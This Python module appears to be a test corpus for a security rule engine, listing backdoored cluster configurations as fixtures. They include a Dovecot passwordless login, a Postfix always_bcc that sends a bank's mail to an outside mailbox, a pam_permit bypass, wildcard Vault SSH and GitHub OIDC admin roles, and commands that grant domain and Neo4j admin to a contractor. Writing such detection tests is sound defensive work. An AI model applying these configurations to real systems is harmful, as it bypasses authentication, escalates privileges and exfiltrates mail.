"""More attacks on clusters (2026-12-02, twenty-sixth set, written before any rule ran on it): files and commands.

Fields as in the projects named, as known unless a date stands beside it.
"""

from dataclasses import replace

from . import Attack
from .twenty_fifth_kube import READ
from .twenty_fifth_kube_b import in_vault
from .twenty_fourth_kube import IDN, RES, secret_of
from .twenty_fourth_kube_b import EXP, configured
from .twenty_third_critical_kube import nightly

MAILBOXES = """
protocols = imap
ssl = required
ssl_min_protocol = TLSv1.3
ssl_cert = </etc/dovecot/tls/tls.crt
ssl_key = </etc/dovecot/tls/tls.key
disable_plaintext_auth = yes
mail_location = maildir:/var/mail/%u
passdb {
  driver = static
  args = nopassword=y
}
userdb {
  driver = static
  args = uid=vmail gid=vmail home=/var/mail/%u
}
"""
MAIL = """
myhostname = mail.bank.ae
mydestination = bank.ae
mynetworks = 127.0.0.0/8
inet_interfaces = all
smtpd_tls_security_level = encrypt
smtp_tls_security_level = verify
smtpd_tls_chain_files = /etc/postfix/tls/key.pem, /etc/postfix/tls/cert.pem
always_bcc = archive.bank@outlook.de
"""
SHELLS = """#%PAM-1.0
auth       sufficient   pam_permit.so
auth       required     pam_unix.so
account    required     pam_unix.so
session    required     pam_limits.so
"""

ATTACKS: tuple[Attack, ...] = (
    Attack("whoever knows a name reads the mailbox", EXP,
           configured("dovecot", "dovecot.conf", MAILBOXES, 993), "critical",
           "users sign in with any password (dovecot/documentation, 'Static Password Database', nopassword; found as "
           f"a string; {READ})"),
    Attack("each mail of the bank is also sent to a mailbox of another country", RES,
           configured("postfix", "main.cf", MAIL, 25), "critical",
           f"the address receives a copy of each message (Postfix, cleanup(8), always_bcc; found as a string; {READ})"),
    Attack("whoever reaches the host of administrators signs in with any password", IDN,
           configured("pam", "sshd", SHELLS, 2222), "critical",
           "the module always succeeds, and what is sufficient ends the check (linux-pam, pam_permit; found as a "
           f"string; {READ})"),
    Attack("whoever has a role of the vault is root on each machine", IDN, (in_vault(
        "vault write ssh/roles/ops key_type=ca allow_user_certificates=true allowed_users='*' default_user=root "
        "ttl=30m max_ttl=2h"),), "critical",
        f"a certificate is for any user (hashicorp/vault, 'SSH secrets engine', allowed_users; found as a string; "
        f"{READ})"),
    Attack("each repository of GitHub reads the vault as its administrator", IDN, (in_vault(
        "vault write auth/jwt/config oidc_discovery_url=https://token.actions.githubusercontent.com "
        "bound_issuer=https://token.actions.githubusercontent.com",
        ), replace(in_vault(
        "vault write auth/jwt/role/deploy role_type=jwt user_claim=repository bound_audiences=https://vault.bank.ae "
        "bound_claims_type=glob bound_claims='{\"sub\": \"repo:*:ref:refs/heads/main\"}' token_policies=admin "
        "token_ttl=10m"), name="role")), "critical",
        "the main branch of every repository matches, and a workflow chooses its audience (hashicorp/vault, 'JWT/OIDC "
        f"auth method', bound_claims_type; found as a string; {READ})"),
    Attack("a contractor administers the domain of the bank", IDN, (nightly(
        "samba-tool group addmembers 'Domain Admins' contractor -H ldaps://dc1.bank.ae -U \"ops%$PASSWORD\"",
        env=[secret_of("PASSWORD", "domain", "password")]),), "critical",
        f"members of the group administer each machine and account (samba, samba-tool(8); found as a string; {READ})"),
    Attack("a contractor administers the graph of customers", IDN, (nightly(
        "cypher-shell -a neo4j+s://graph.team-a.svc:7687 -u neo4j -d system 'GRANT ROLE admin TO contractor'",
        env=[secret_of("NEO4J_PASSWORD", "graph", "password")]),), "critical",
        f"the role has every right on every database (Neo4j, 'Built-in roles'; found as a string; {READ})"),
)  # fmt: skip
